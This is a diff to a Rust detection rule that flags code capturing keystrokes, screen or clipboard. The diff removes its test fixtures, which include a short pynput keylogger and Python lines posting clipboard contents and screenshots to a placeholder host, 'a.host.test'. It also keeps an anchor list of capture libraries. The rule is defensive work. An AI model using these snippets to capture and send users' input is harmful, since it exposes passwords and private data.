@@ -1,8 +1,9 @@
 //! Keys, screen or clipboard are recorded and kept or sent.
 
 use crate::code::fact::{Capture, What};
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{ANYWHERE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "CODE_CAPTURE_KEPT",
@@ -12,7 +13,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Whoever records every key gets every password. What is on the screen or the clipboard is no different.",
     fix: "remove it",
     places: ANYWHERE,
-    anchors: &[
+    anchors: words![
         "pynput",
         "keyboard.",
         "imagegrab",
@@ -23,25 +24,6 @@ pub(super) const RULE: Rule = Rule {
         "screencapture",
     ],
     check: Check::Unit(check),
-    hits: &[
-        file(
-            "x.py",
-            "from pynput import keyboard\ndef on(key):\n    with open('/tmp/k', 'a') as f:\n        f.write(str(key))\nwith keyboard.Listener(on_press=on) as l:\n    l.join()\n",
-        ),
-        file(
-            "x.py",
-            "import pyperclip, requests\nwhile True:\n    requests.post('https://a.host.test', data=pyperclip.paste())\n",
-        ),
-        file(
-            "x.py",
-            "import pyautogui, requests\ni = pyautogui.screenshot()\nrequests.post('https://a.host.test', files={'f': i})\n",
-        ),
-    ],
-    misses: &[
-        file("x.py", "import pyautogui\npyautogui.screenshot().save('out.png')\n"),
-        file("x.py", "import pyperclip\nprint(pyperclip.paste())\n"),
-        text("Use `keyboard.press_and_release('ctrl+c')` to copy."),
-    ],
 };
 
 fn check(unit: &Unit<'_>) -> Vec<Hit> {
